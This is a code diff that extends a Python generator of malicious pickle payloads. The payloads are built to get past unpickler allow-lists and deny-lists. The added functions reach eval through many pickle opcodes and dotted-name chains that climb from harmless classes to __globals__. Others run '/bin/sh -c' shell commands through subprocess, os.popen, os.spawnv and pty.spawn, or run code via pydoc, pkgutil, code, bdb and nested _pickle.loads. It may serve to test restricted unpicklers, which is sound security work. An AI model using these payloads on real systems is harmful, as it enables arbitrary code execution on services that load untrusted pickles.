@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import builtins
+import importlib
+import re
 import struct
+from collections.abc import Iterable
 
 
 def reduce(source: str, protocol: int = 4) -> bytes:
@@ -10,10 +14,12 @@ def reduce(source: str, protocol: int = 4) -> bytes:
     return _start(protocol) + _call(_name("builtins", "eval", protocol), _text(source, protocol)) + b"."
 
 
-def payloads(source: str, path: str, product: str, helper: str = "") -> dict[str, bytes]:
+def payloads(
+    source: str, path: str, product: str, helper: str = "", allowed: Iterable[str] = ()
+) -> dict[str, bytes]:
     """Named pickles; a name tells the road, and so the kind of allow-list or deny-list that it is made for.
 
-    `helper` is a module whose import is an effect.
+    `helper` is a module whose import is an effect; `allowed` are words that the unpickler may allow as names.
     """
     text = _text(source)
     evaluate = _name("builtins", "eval")
@@ -45,7 +51,11 @@ def payloads(source: str, path: str, product: str, helper: str = "") -> dict[str
         "behind plain data": b"}." + _start(4) + _call(evaluate, text),
         "profiled": _call(_name("cProfile", "run"), text),
     }
+    found |= _by_opcodes(text) | _by_other_modules(text, shell)
+    for module, name in _harmless(allowed):
+        found[f"from {module}.{name}"] = _by_object(module, name, text)
     if helper:
+        found["runpy.run_module"] = _call(_name("runpy", "run_module"), _text(helper))
         found |= {f"a module's {name}": _name(helper, name) for name in ("dict", "run", "x")}
     for module in ("collections", "datetime", "decimal", "solution", "__main__"):
         found[f"dotted name in {module}"] = _call(_call(_name(module, "__builtins__.get"), _text("eval")), text)
@@ -58,6 +68,70 @@ def _by_operator(module: str, function: str, text: bytes) -> bytes:
     names = _call(_call(_name("operator", "attrgetter"), _text("__globals__")), _name(module, function))
     builtins = _call(_name("operator", "getitem"), names, _text("__builtins__"))
     return _call(_call(_name("operator", "getitem"), builtins, _text("eval")), text)
+
+
+def _by_opcodes(text: bytes) -> dict[str, bytes]:
+    """Each opcode that names something with each that calls it; `map` and `tuple` call by their `__new__` alone."""
+    namings = {"STACK_GLOBAL": _name, "GLOBAL": lambda module, name: _name(module, name, 2)}
+    found = {}
+    for named, naming in namings.items():
+        evaluate, mapped, made = (naming("builtins", name) for name in ("eval", "map", "tuple"))
+        lazily = b"(" + evaluate + b"(" + text + b"tt"
+        found[f"{named} and REDUCE"] = evaluate + text + b"\x85R"
+        found[f"{named} and OBJ"] = b"(" + evaluate + text + b"o"
+        found[f"{named} and NEWOBJ"] = made + mapped + lazily + b"\x81\x85\x81"
+        found[f"{named} and NEWOBJ_EX"] = made + mapped + lazily + b"}\x92\x85}\x92"
+        found[f"{named} and a class"] = _call(made, _call(mapped, evaluate, b"(" + text + b"t"))
+    return found
+
+
+def _by_other_modules(text: bytes, shell: str) -> dict[str, bytes]:
+    """What lists of forbidden modules and functions forget."""
+    words = [_text(word) for word in ("/bin/sh", "-c", shell)]
+    run = b"(" + b"".join(words) + b"l"
+    interpreter = _call(_name("code", "InteractiveInterpreter"))
+    return {
+        "os.popen": _call(_name("os", "_wrap_close.close"), _call(_name("os", "popen"), words[2])),
+        "subprocess.call": _call(_name("subprocess", "call"), run),
+        "subprocess.Popen": _call(_name("subprocess", "Popen.wait"), _call(_name("subprocess", "Popen"), run)),
+        "subprocess.check_output": _call(_name("subprocess", "check_output"), run),
+        "pydoc.locate": _call(_call(_name("pydoc", "locate"), _text("builtins.eval")), text),
+        "pkgutil.resolve_name": _call(_call(_name("pkgutil", "resolve_name"), _text("builtins:eval")), text),
+        "subprocess.run": _call(_name("subprocess", "run"), run),
+        "os.spawnv": _call(_name("os", "spawnv"), b"K\x00", words[0], run),
+        "pty.spawn": _call(_name("pty", "spawn"), run),
+        "profile.run": _call(_name("profile", "run"), text),
+        "an interpreter": _call(_name("code", "InteractiveInterpreter.runsource"), interpreter, text),
+        "a debugger": _call(_name("bdb", "Bdb.runeval"), _call(_name("bdb", "Bdb")), text),
+        "operator.call": _call(_name("operator", "call"), _name("builtins", "eval"), text),
+        "_pickle": _call(_name("_pickle", "loads"), _bytes(_start(4) + _call(_name("builtins", "eval"), text) + b".")),
+    }
+
+
+#: Where programs take the names from that they allow, and the names that most of them do.
+_MODULES = ("builtins", "collections", "datetime", "decimal", "fractions", "uuid", "pathlib", "copyreg", "_codecs")
+_ALLOWED = ("dict", "list", "str", "int")
+_MOST_HARMLESS = 12
+
+
+def _harmless(words: Iterable[str]) -> list[tuple[str, str]]:
+    """Modules and names, known to this Python, that stand in the words; then those of `_ALLOWED`."""
+    parts = dict.fromkeys(part for word in words for part in re.findall(r"\w+", word)[:20])
+    modules = [importlib.import_module(part) for part in parts if part in _MODULES] or [builtins]
+    pairs = [(one.__name__, name) for name in parts for one in modules if isinstance(getattr(one, name, None), type)]
+    return list(dict.fromkeys([*pairs[:_MOST_HARMLESS], *(("builtins", name) for name in _ALLOWED)]))
+
+
+def _by_object(module: str, name: str, text: bytes) -> bytes:
+    """Only dotted names below one harmless class: `object` is its class's base, and leads to a function's globals."""
+    get = _name(module, f"{name}.__class__.__base__.__getattribute__")
+    parts = _call(_name(module, f"{name}.__class__.__base__.__reduce_ex__"), _text("x"), b"K\x02")
+
+    def item(container: bytes, key: bytes) -> bytes:
+        return _call(_call(get, container, _text("__getitem__")), key)
+
+    names = _call(get, item(parts, b"K\x00"), _text("__globals__"))
+    return _call(item(item(names, _text("__builtins__")), _text("eval")), text)
 
 
 def _by_memo(text: bytes) -> bytes:
